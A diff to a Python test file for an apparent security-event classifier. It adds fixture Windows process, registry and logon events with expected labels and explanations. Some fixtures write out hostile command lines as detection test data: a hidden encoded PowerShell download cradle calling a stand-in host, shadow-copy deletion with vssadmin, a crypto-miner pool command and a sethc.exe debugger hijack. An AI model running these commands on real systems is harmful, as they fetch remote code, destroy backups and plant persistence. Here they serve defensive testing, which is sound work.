@@ -41,7 +41,7 @@ def test_metrics_are_those_published(spark, tmp_path, run):
     predictions = readers.predictions(spark, str(tmp_path / "run.json"))
     got = metrics.class_metrics(predictions).first()
     assert got["n"] == 50 and {k: round(100 * got[k], 1) for k in PUBLISHED[run]} == PUBLISHED[run]
-    assert (round(got["margin_correct"], 3), round(got["margin_wrong"], 3)) == MARGINS[run]
+    assert (got["margin_correct"], got["margin_wrong"]) == pytest.approx(MARGINS[run], abs=6e-4)
     spread = {r["pred"]: r["n"] for r in predictions.groupBy("pred").agg(F.count("*").alias("n")).collect()}
     assert spread == {"first": {"benign": 49, "malicious": 1}, "strict": {"benign": 33, "malicious": 17}}[run]
     met = {r["metric"]: r["met"] for r in metrics.gates(metrics.class_metrics(predictions)).collect()}
@@ -84,9 +84,78 @@ EVENTS = [
         [("smb_admin_share", "10.0.0.5:445")], "lateral_movement",
         f"Network connection by a.exe: it touches an SMB administrative share. {KNOWN}",
     ),
+    (
+        {"EventID": "1", "Image": "D:\\shells\\bash.exe", "ParentImage": "C:\\b\\chrome.exe", "CommandLine": "bash.exe -c ls"}, "malicious",
+        [("browser_spawns_shell", "chrome.exe -> bash.exe")], "malware", f"Process creation by bash.exe: a browser spawned a shell. {KNOWN}",
+    ),
+    (
+        {"EventID": "1", "Image": f"{S32}\\rundll32.exe", "ParentImage": f"{S32}\\svchost.exe", "CommandLine": "rundll32.exe a.dll,Go"}, "suspicious",
+        [("service_host_spawns_proc", "svchost.exe -> rundll32.exe"), ("lolbin_exec", "rundll32.exe"), ("system32_path", "c:\\windows\\system32")], "malware",
+        f"Process creation by rundll32.exe: a service host spawned an unexpected child and the image is a living-off-the-land binary. {REVIEW} The mitigating evidence (it executes from a system path) does not outweigh it.",
+    ),
+    (
+        {"EventID": "1", "Image": "C:\\ProgramData\\svchost.exe", "CommandLine": "svchost.exe", "User": "NT AUTHORITY\\LOCAL SERVICE"}, "malicious",
+        [("temp_path_exec", "C:\\ProgramData\\svchost.exe"), ("masquerading_name", "C:\\ProgramData\\svchost.exe"), ("restricted_service_acct", "NT AUTHORITY\\LOCAL SERVICE")], "malware",
+        f"Process creation by svchost.exe: the image runs from a user-writable path and the filename mimics a system binary outside a system path. {KNOWN} The mitigating evidence (it runs under a restricted service account) does not outweigh it.",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\ps\\powershell.exe", "CommandLine": "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A https://x.example/a"}, "malicious",
+        [(k, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A https://x.example/a") for k in ("encoded_command", "hidden_window", "download_cradle", "exec_policy_bypass")], "malware",
+        f"Process creation by powershell.exe: the command line is encoded and the window is hidden. {KNOWN}",
+    ),
+    (
+        {"EventID": "13", "Image": "D:\\x\\inst.exe", "TargetFilename": "HKLM\\System\\CurrentControlSet\\Services\\abc\\ImagePath"}, "suspicious",
+        [("service_binary_created", "HKLM\\System\\CurrentControlSet\\Services\\abc\\ImagePath")], "malware", f"Registry value set by inst.exe: a service or system binary was written to disk. {REVIEW}",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\x\\a.exe", "CommandLine": "a.exe enable SeDebugPrivilege"}, "malicious",
+        [("privilege_escalation", "a.exe enable SeDebugPrivilege")], "privilege_escalation", f"Process creation by a.exe: privileges are being elevated. {KNOWN}",
+    ),
+    (
+        {"EventID": "13", "Image": "D:\\x\\i.exe", "TargetFilename": "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger"}, "malicious",
+        [("privilege_escalation", "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger")], "privilege_escalation", f"Registry value set by i.exe: privileges are being elevated. {KNOWN}",
+    ),
+    (
+        {"EventID": "1", "Image": "C:\\Tools\\PsExec.exe", "CommandLine": "PsExec.exe \\\\srv1 cmd", "Signed": "true", "Signer": "Sysinternals"}, "suspicious",
+        [("remote_service_install", "PsExec.exe \\\\srv1 cmd"), ("signed_known_vendor", "Sysinternals")], "lateral_movement",
+        f"Process creation by psexec.exe: it acts against a remote host. {REVIEW} The mitigating evidence (the binary is signed by a known vendor) does not outweigh it.",
+    ),
+    (
+        {"EventID": "3", "Image": "D:\\a.exe", "DestinationIp": "93.184.216.34", "DestinationPort": "443", "DestinationHostname": "www.example.com"}, "benign",
+        [("outbound_known_good", "93.184.216.34:443")], None, f"Network connection by a.exe: the destination is a well-known service on its usual port. {NORMAL}",
+    ),
+    (
+        {"EventID": "7", "Image": "D:\\h\\host.exe", "TargetFilename": "D:\\h\\plug.dll", "Signed": "false"}, "suspicious",
+        [("unsigned_binary", "plug.dll")], "malware", f"Image load by host.exe: the binary is unsigned. {REVIEW}",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\t\\certutil.exe", "CommandLine": "certutil -hashfile a"}, "benign",
+        [("lolbin_exec", "certutil.exe")], None, f"Process creation by certutil.exe: the image is a living-off-the-land binary. {NORMAL} The pattern is documented normal behaviour for this binary.",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\t\\rar.exe", "CommandLine": "rar a out.rar D:\\share"}, "malicious",
+        [("system32_path", "d:\\t")], "data_exfiltration", f"Process creation by rar.exe: it executes from a system path. {KNOWN}",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\t\\vssadmin.exe", "ParentImage": "D:\\t\\x.exe", "CommandLine": "vssadmin delete shadows /all"}, "malicious",
+        [("expected_parent", "x.exe -> vssadmin.exe")], "ransomware", f"Process creation by vssadmin.exe: the parent-child relationship is normal. {KNOWN}",
+    ),
+    (
+        {"EventID": "1", "Image": "D:\\t\\miner.exe", "CommandLine": "miner.exe -o stratum+tcp://pool:3333"}, "malicious",
+        [("system32_path", "d:\\t")], "cryptomining", f"Process creation by miner.exe: it executes from a system path. {KNOWN}",
+    ),
+    (
+        {"EventID": "4624", "User": "CORP\\ann", "LogonType": "2", "AuthPackage": "Negotiate"}, "suspicious",
+        [("system32_path", "-")], "unknown", f"Successful logon by the subject: it executes from a system path. {REVIEW}",
+    ),
 ]
 
 
+def test_every_indicator_has_an_event():
+    """signature_invalid has a phrase, but nothing makes it."""
+    assert {k for _, _, found, *_ in EVENTS for k, _ in found} == set(targets.PHRASES) - {"signature_invalid"}
+
+
 def test_targets_of_rows_worked_by_hand(spark):
     rows = [(i, gold, {"benign": "none", "suspicious": "medium", "malicious": "high"}[gold], *(f.get(x) for x in FIELDS)) for i, (f, gold, *_) in enumerate(EVENTS)]
     df = spark.createDataFrame(rows, "i int, gold string, severity string, " + ", ".join(f"{f} string" for f in FIELDS))
